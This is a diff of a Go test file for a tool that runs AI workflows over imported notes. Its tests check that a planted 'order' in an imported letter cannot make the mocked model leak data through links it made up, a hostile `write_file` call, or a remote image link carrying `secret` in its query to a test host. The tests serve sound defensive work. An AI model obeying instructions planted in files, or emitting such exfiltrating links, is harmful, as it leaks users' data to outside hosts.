@@ -27,12 +27,12 @@ func TestExit_isInert(t *testing.T) {
 			// Links that stood in the letter word for word may stay links; those that the model made may not.
 			letter := strings.NewReplacer("/made", "/shown", "/auto", "/seen").Replace(s.hostileAnswer())
 			s.write("Imported/Letter/index.md", order+"\n\n"+letter)
-			s.model.calls = func(tool string) []string {
+			s.model.attacks(func(tool string) []string {
 				if tool != "write_file" {
 					return nil
 				}
 				return []string{fmt.Sprintf(`{"path":"Out.md","content":%q}`, s.hostileAnswer())}
-			}
+			})
 			s.workflow("Read", "## Read\n"+step+"\nSummarise.\n")
 			s.remember()
 			out := s.run(anyCode, "run", "Read")
@@ -76,7 +76,7 @@ func TestExit_otherKinds(t *testing.T) {
 			t.Parallel()
 			s := newScene(t)
 			s.write("Imported/Letter/index.md", order)
-			s.model.answer = strings.ReplaceAll(tt.answer, "HOST", s.host)
+			s.model.says(strings.ReplaceAll(tt.answer, "HOST", s.host))
 			s.workflow("Read", "## Read\n@input file: Imported/Letter/index.md\n"+tt.output+"\n\nSummarise.\n")
 			s.remember()
 			out := s.run(anyCode, "run", "Read")
@@ -97,7 +97,7 @@ func TestExit_keepsWhatIsHarmless(t *testing.T) {
 	s := newScene(t)
 	s.write("Imported/Letter/index.md", order+" See https://example.org/paper for more.\n")
 	s.write("Out.md", "# Mine\n\n![](https://example.org/my.png)\n")
-	s.model.answer = "See [the paper](https://example.org/paper), [[Diary]] and ![[Attachments/vaultflow.png]]."
+	s.model.says("See [the paper](https://example.org/paper), [[Diary]] and ![[Attachments/vaultflow.png]].")
 	s.workflow("Read", "## Read\n@input file: Imported/Letter/index.md\n@output file: Out\n\nSummarise.\n")
 	s.run(0, "run", "Read")
 	for _, want := range []string{"![](https://example.org/my.png)", "[the paper](https://example.org/paper)", "[[Diary]]", "![[Attachments/vaultflow.png]]"} {
@@ -120,7 +120,7 @@ func TestExit_remotePictures(t *testing.T) {
 		},
 		"in an answer": func(s *scene) string {
 			s.write("Imported/Letter/index.md", order)
-			s.model.answer = "![](http://" + s.host + "/?q=secret.png)"
+			s.model.says("![](http://" + s.host + "/?q=secret.png)")
 			s.quietly(func() {
 				s.workflow("Digest", "## Digest\n@input file: Imported/Letter/index.md\n@output file: Digest\n\nSummarise.\n")
 				s.run(anyCode, "run", "Digest")
